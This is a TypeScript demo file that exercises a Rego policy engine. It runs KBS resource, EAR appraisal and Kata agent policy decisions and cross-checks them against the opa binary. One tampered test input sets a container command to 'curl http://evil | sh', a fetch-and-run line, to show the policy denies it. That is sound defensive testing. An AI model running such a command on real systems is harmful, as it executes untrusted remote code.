/**
 * The Rego engine, end to end and offline: a KBS resource-policy decision, an EAR appraisal with
 * the `query_reference_value` host function, and Kata agent-policy decisions (allowed and
 * denied), each cross-checked against the real `opa` binary when it is installed.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { createEngine, type JsonValue } from "../src/rego/index.js";
import { opaEval } from "./opa.js";

/** Options of {@link demoRego}. */
export interface RegoDemoContext {
  /** Path of the `opa` binary for the cross-check (default: .tools/bin/opa; skipped if absent). */
  opa?: string;
}

/** What the demo established. */
export interface RegoDemoResult {
  decisions: { what: string; value: JsonValue | undefined }[];
  /** Decisions compared with OPA and found equal (0 when opa is absent). */
  matchedOpa: number;
  /** Mean time of one Kata CreateContainer decision on a prepared engine, in microseconds. */
  kataDecisionUs: number;
}

const repo = join(fileURLToPath(new URL(".", import.meta.url)), "..", "..");
const testdata = join(repo, "src", "rego", "testdata");

/** Runs the Rego demo, logging one line per step. */
export async function demoRego(
  log: (line: string) => void,
  ctx: RegoDemoContext = {},
): Promise<RegoDemoResult> {
  const decisions: RegoDemoResult["decisions"] = [];
  const opa = ctx.opa ?? join(repo, ".tools", "bin", "opa");
  let matchedOpa = 0;
  const dir = mkdtempSync(join(tmpdir(), "rego-demo-"));
  const cross = (
    what: string,
    policy: string,
    data: JsonValue,
    input: JsonValue,
    query: string,
    ours: JsonValue | undefined,
  ) => {
    if (!existsSync(opa)) return;
    const out = opaEval(opa, dir, { policy, data, input }, query);
    const theirs = out.result?.[0]?.expressions[0]?.value as JsonValue | undefined;
    if (JSON.stringify(theirs) !== JSON.stringify(ours)) {
      throw new Error(`${what}: coco-ts ${JSON.stringify(ours)} but opa ${JSON.stringify(theirs)}`);
    }
    matchedOpa++;
    log(`  opa agrees: ${JSON.stringify(theirs)}`);
  };
  try {
    // 1. KBS resource policy, evaluated as Trustee does (strict builtin errors).
    const kbs = readFileSync(join(testdata, "kbs-default.rego"), "utf8");
    for (const status of ["affirming", "contraindicated"]) {
      const e = createEngine();
      e.addPolicy("policy.rego", kbs);
      const data = { plugin: "resource", "resource-path": ["default", "key", "1"] };
      const input = { submods: { cpu0: { "ear.status": status } } };
      e.addData(data);
      e.setInput(input);
      const v = e.evalRule("data.policy.allow");
      log(`KBS resource policy, EAR status ${status}: allow = ${JSON.stringify(v)}`);
      decisions.push({ what: `kbs ${status}`, value: v });
      cross(`kbs ${status}`, kbs, data, input, "data.policy.allow", v);
    }

    // 2. EAR appraisal with a host function for reference values.
    const ear = readFileSync(join(testdata, "ear-cpu.rego"), "utf8");
    const e2 = createEngine();
    const refs: Record<string, JsonValue> = {
      launch_digest: ["abcde"],
      svn: [1, 2],
      major_version: 1,
      minimum_minor_version: 3,
    };
    e2.registerFunction("query_reference_value", 1, (id) => refs[id as string] ?? null);
    e2.addPolicy("policy.rego", ear);
    e2.setInput({
      sample: {
        launch_digest: "abcde",
        svn: 2,
        platform_version: { major: 1, minor: 4 },
        debug: false,
      },
    });
    const claims = e2.evalRule("data.policy.trust_claims");
    log(`EAR appraisal of sample evidence: trust_claims = ${JSON.stringify(claims)}`);
    decisions.push({ what: "ear trust_claims", value: claims });

    // 3. Kata agent policy: CreateContainer allowed, then a host-changed command denied.
    const rules = readFileSync(join(testdata, "kata-agent.rego"), "utf8");
    const policyData = JSON.parse(readFileSync(join(testdata, "kata-policy-data.json"), "utf8"));
    const request = JSON.parse(readFileSync(join(testdata, "kata-create-container.json"), "utf8"));
    const agent = createEngine();
    agent.setStrictBuiltinErrors(false);
    agent.setGatherPrints(true);
    agent.addPolicy("policy.rego", rules);
    agent.addData(policyData);
    const decide = (input: JsonValue) => {
      agent.setInput(input);
      return agent.evalQuery("data.agent_policy.CreateContainerRequest").result?.[0]?.expressions[0]
        ?.value;
    };
    const ok = decide(request);
    log(`Kata CreateContainer for the generated pod: ${JSON.stringify(ok)}`);
    decisions.push({ what: "kata allowed", value: ok });
    cross(
      "kata allowed",
      rules,
      policyData,
      request,
      "data.agent_policy.CreateContainerRequest",
      ok,
    );
    const evil = structuredClone(request);
    evil.OCI.Process.Args[2] = "curl http://evil | sh";
    const denied = decide(evil);
    log(`Kata CreateContainer with a host-changed command: ${JSON.stringify(denied)}`);
    decisions.push({ what: "kata denied", value: denied });
    cross(
      "kata denied",
      rules,
      policyData,
      evil,
      "data.agent_policy.CreateContainerRequest",
      denied,
    );
    const prints = agent.takePrints();
    log(`  policy print() trace: ${prints.length} lines, e.g. ${prints[0]}`);

    const n = 2000;
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < n; i++) decide(request);
    const kataDecisionUs = Number(process.hrtime.bigint() - t0) / 1e3 / n;
    log(`Kata CreateContainer decision on a prepared engine: ${kataDecisionUs.toFixed(1)} us`);
    return { decisions, matchedOpa, kataDecisionUs };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
